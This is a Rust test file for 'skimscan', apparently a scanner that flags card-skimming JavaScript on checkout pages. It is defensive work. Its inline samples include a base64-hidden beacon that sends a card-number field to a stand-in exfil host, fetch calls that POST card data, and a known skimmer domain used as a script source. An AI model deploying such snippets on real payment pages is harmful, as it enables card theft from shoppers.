//! Fixture scripts for the techniques in techniques.md (written for these tests, not copied
//! from samples) must raise the rules their first lines name; legitimate checkout code
//! (processor tokenisation, analytics, card formatting, tag managers, polyfills) must stay
//! free of high and critical findings.

use skimscan::finding::Severity;
use skimscan::inventory::ScriptKind;
use skimscan::js::{AnalysisJob, Engine, HostPolicy};
use skimscan::rules::RuleSet;
use std::path::Path;
use std::sync::Arc;

fn engine() -> Engine {
    Engine::new(
        Arc::new(RuleSet::load(false, &[]).expect("shipped rules")),
        HostPolicy::default(),
    )
}

fn job(name: &str, code: &str) -> AnalysisJob {
    AnalysisJob {
        script_id: name.into(),
        kind: ScriptKind::External,
        code: code.into(),
        page_url: name.into(),
        page_host: None,
        payment_page: true,
        page_fields: Vec::new(),
        page_values: Default::default(),
        page_form: Vec::new(),
        line_offset: 1,
        column_offset: 1,
    }
}

fn fixtures(dir: &str) -> Vec<(String, String)> {
    let d = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/engine")
        .join(dir);
    let mut out: Vec<(String, String)> = std::fs::read_dir(&d)
        .expect("fixture dir")
        .filter_map(|e| e.ok())
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "js"))
        .map(|p| {
            (
                p.file_name().unwrap().to_string_lossy().into_owned(),
                std::fs::read_to_string(&p).unwrap(),
            )
        })
        .collect();
    out.sort();
    out
}

#[test]
fn every_technique_fixture_raises_its_rules() {
    let engine = engine();
    let fx = fixtures("skimmers");
    assert!(fx.len() >= 20, "only {} fixtures", fx.len());
    let jobs = fx.iter().map(|(n, c)| job(n, c)).collect();
    let results = engine.analyse_batch(jobs);
    let mut failures = Vec::new();
    for ((name, code), r) in fx.iter().zip(results) {
        let expect = code
            .lines()
            .find_map(|l| l.strip_prefix("// expect:"))
            .unwrap_or_else(|| panic!("{name} has no `// expect:` line"));
        for rule in expect.split(',').map(str::trim).filter(|s| !s.is_empty()) {
            if !r.findings.iter().any(|f| f.rule == rule) {
                failures.push(format!(
                    "{name}: expected {rule}, got {:?}",
                    r.findings.iter().map(|f| &f.rule).collect::<Vec<_>>()
                ));
            }
        }
        // Every skimmer fixture is at least suspicious, and its errors are empty.
        assert!(
            r.findings.iter().any(|f| f.severity >= Severity::Medium),
            "{name}: nothing above low"
        );
        assert!(r.errors.is_empty(), "{name}: {:?}", r.errors);
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn legitimate_checkout_code_has_no_high_findings() {
    let engine = engine();
    let fx = fixtures("legit");
    assert!(fx.len() >= 6);
    let results = engine.analyse_batch(fx.iter().map(|(n, c)| job(n, c)).collect());
    for ((name, _), r) in fx.iter().zip(results) {
        let strong: Vec<_> = r
            .findings
            .iter()
            .filter(|f| f.severity >= Severity::High)
            .map(|f| (&f.rule, &f.evidence))
            .collect();
        assert!(strong.is_empty(), "{name}: {strong:?}");
        assert!(r.errors.is_empty(), "{name}: {:?}", r.errors);
    }
}

#[test]
fn findings_carry_place_hosts_and_decoded_evidence() {
    let engine = engine();
    let code = "var a = 1;\nvar u = atob('aHR0cHM6Ly9leGZpbC5leGFtcGxlL2M=');\nnavigator.sendBeacon(u, document.getElementById('cc_number').value);\n";
    let mut j = job("inline", code);
    j.line_offset = 10;
    j.column_offset = 5;
    j.page_url = "https://shop.example/checkout".into();
    j.page_host = Some("shop.example".into());
    let r = engine.analyse_batch(vec![j]).pop().unwrap();
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == "payment-data-exfiltration")
        .expect("exfiltration finding");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.hosts, vec!["exfil.example".to_string()]);
    assert_eq!(f.page.as_deref(), Some("https://shop.example/checkout"));
    assert_eq!(f.script.as_deref(), Some("inline"));
    let loc = f.location.expect("location");
    assert_eq!((loc.line, loc.column), (12, 1));
    let ev = f.evidence.as_deref().unwrap();
    assert!(ev.contains("decoded URL https://exfil.example/c"), "{ev}");
    assert!(r.destinations.contains("exfil.example"));
}

#[test]
fn first_party_and_allowed_hosts_are_not_outside() {
    let rules = Arc::new(RuleSet::load(false, &[]).unwrap());
    let policy = HostPolicy {
        allowed: vec![skimscan::hosts::HostPattern::parse("*.partner.example").unwrap()],
    };
    let engine = Engine::new(rules, policy);
    let code = "var n = document.getElementById('cc_number').value;\nfetch('https://cdn.shop.example/pay', {method:'POST', body:n});\nfetch('https://api.partner.example/t', {method:'POST', body:n});";
    let mut j = job("x", code);
    j.page_host = Some("www.shop.example".into());
    let r = engine.analyse_batch(vec![j]).pop().unwrap();
    assert!(
        r.findings.iter().all(|f| f.severity < Severity::High),
        "{:?}",
        r.findings
    );
    assert!(r.destinations.is_empty());
}

#[test]
fn unfetched_script_urls_and_page_text_are_checked_against_indicators() {
    let engine = engine();
    let f = engine.check_script_url(
        "https://shop.example/",
        Some("shop.example"),
        "//magescripts.pw/x.js",
    );
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].rule, "known-skimmer-domain");
    assert_eq!(f[0].hosts, vec!["magescripts.pw".to_string()]);
    let f = engine.check_script_url(
        "https://shop.example/",
        Some("shop.example"),
        "https://cdn.jquery-lib.example/j.js",
    );
    assert!(f.iter().any(|x| x.rule == "lookalike-destination"), "{f:?}");
    assert!(
        engine
            .check_script_url(
                "https://shop.example/",
                Some("shop.example"),
                "https://js.stripe.com/v3/"
            )
            .is_empty()
    );
    assert!(
        engine
            .check_script_url(
                "https://shop.example/",
                Some("shop.example"),
                "/static/app.js"
            )
            .is_empty()
    );
    let f = engine.check_page_text(
        "https://shop.example/",
        "<p>x</p>\n&lt;script src=//magescripts.pw/a.js&gt;",
    );
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].location.map(|l| l.line), Some(2));
}
